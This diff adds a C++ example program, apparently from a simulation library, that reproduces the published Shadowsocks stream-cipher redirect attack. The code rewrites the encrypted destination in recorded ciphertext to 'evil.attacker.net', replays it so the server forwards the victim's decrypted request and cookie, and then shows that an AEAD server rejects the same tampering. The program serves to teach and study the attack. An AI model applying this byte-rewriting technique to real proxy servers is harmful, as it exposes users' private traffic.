@@ -1,0 +1,103 @@
+// The stream-cipher redirect attack (paper section 2.1, the February 2020
+// disclosure): using a Shadowsocks server as a DECRYPTION ORACLE.
+//
+// Stream ciphers have no integrity. An on-path attacker (the GFW's
+// vantage) records a client's first packet, then XORs the ciphertext
+// bytes of the target specification with (guessed_plaintext ^
+// attacker_spec) — rewriting the connection's destination to a host the
+// attacker controls, without knowing the password. Replaying the doctored
+// packet makes the server decrypt the ENTIRE recorded payload and
+// helpfully forward the plaintext to the attacker.
+//
+// Works against implementations without a replay/IV filter; here,
+// Shadowsocks-python — one of the two implementations the paper's
+// actually-blocked servers ran.
+//
+//   ./examples/redirect_attack
+#include <iostream>
+
+#include "client/ss_client.h"
+#include "probesim/probesim.h"
+#include "servers/upstream.h"
+
+using namespace gfwsim;
+
+int main() {
+  probesim::ServerSetup setup;
+  setup.impl = probesim::ServerSetup::Impl::kSsPython;
+  setup.cipher = "aes-256-ctr";  // any stream method is vulnerable
+  probesim::ProbeLab lab(setup, 0x5EC);
+
+  // The attacker's drop site: same hostname LENGTH as the victim's
+  // destination, so the ciphertext rewrite is position-aligned.
+  const std::string victim_host = "www.wikipedia.org";   // 17 chars
+  const std::string attacker_host = "evil.attacker.net"; // 17 chars
+  Bytes stolen;
+  lab.internet().add_site(attacker_host, [&stolen](ByteSpan data) {
+    stolen.assign(data.begin(), data.end());
+    return to_bytes("thanks!");
+  });
+
+  // --- 1. A victim uses the proxy; the attacker records the ciphertext.
+  const std::string secret_request =
+      "GET /private HTTP/1.1\r\nHost: www.wikipedia.org\r\n"
+      "Cookie: session=TOP-SECRET-TOKEN-12345\r\n\r\n";
+  const Bytes recorded = lab.establish_legitimate_connection(
+      proxy::TargetSpec::hostname(victim_host, 443), to_bytes(secret_request));
+  std::cout << "[attacker] recorded " << recorded.size()
+            << " ciphertext bytes from the victim's connection\n";
+
+  // --- 2. Rewrite the target spec inside the ciphertext. -----------------
+  // Layout after the 16-byte IV: [0x03][len=17][hostname 17][port 2].
+  // The attacker guesses the plaintext (popular destination) and XORs in
+  // the difference; the port and everything after are left untouched.
+  const Bytes old_spec = proxy::encode_target(proxy::TargetSpec::hostname(victim_host, 443));
+  const Bytes new_spec =
+      proxy::encode_target(proxy::TargetSpec::hostname(attacker_host, 443));
+  const std::size_t iv_len = proxy::find_cipher(setup.cipher)->iv_len;
+
+  Bytes doctored = recorded;
+  for (std::size_t i = 0; i < old_spec.size(); ++i) {
+    doctored[iv_len + i] ^= old_spec[i] ^ new_spec[i];
+  }
+  std::cout << "[attacker] rewrote " << old_spec.size()
+            << " ciphertext bytes (no password needed: stream ciphers are "
+               "malleable)\n";
+
+  // --- 3. Replay the doctored packet at the server. ----------------------
+  const auto result = lab.prober().send_probe(doctored);
+  std::cout << "[attacker] server reaction: " << probesim::reaction_name(result.reaction)
+            << "\n";
+
+  // --- 4. The server decrypted the victim's traffic for us. --------------
+  if (!stolen.empty()) {
+    std::cout << "[attacker] plaintext forwarded to " << attacker_host << ":\n"
+              << "-----------------------------------------------\n"
+              << to_string(stolen)
+              << "-----------------------------------------------\n"
+              << (to_string(stolen) == secret_request
+                      ? "FULL DECRYPTION RECOVERED — this is why the paper urges "
+                        "deprecating stream ciphers entirely (sec. 7.2).\n"
+                      : "partial recovery\n");
+  } else {
+    std::cout << "[attacker] nothing arrived (a replay filter or AEAD would "
+                 "stop this attack)\n";
+  }
+
+  // --- 5. The same attack against an AEAD server fails. -------------------
+  probesim::ServerSetup aead_setup;
+  aead_setup.impl = probesim::ServerSetup::Impl::kOutline107;
+  aead_setup.cipher = "chacha20-ietf-poly1305";
+  probesim::ProbeLab aead_lab(aead_setup, 0x5ED);
+  const Bytes aead_recorded = aead_lab.establish_legitimate_connection(
+      proxy::TargetSpec::hostname(victim_host, 443), to_bytes(secret_request));
+  Bytes aead_doctored = aead_recorded;
+  for (std::size_t i = 0; i < old_spec.size(); ++i) {
+    aead_doctored[32 + 18 + i] ^= old_spec[i] ^ new_spec[i];  // salt+len-chunk offset
+  }
+  const auto aead_result = aead_lab.prober().send_probe(aead_doctored);
+  std::cout << "\n[attacker] same rewrite against AEAD (Outline): reaction = "
+            << probesim::reaction_name(aead_result.reaction)
+            << " — authentication rejects the tampered chunk.\n";
+  return 0;
+}
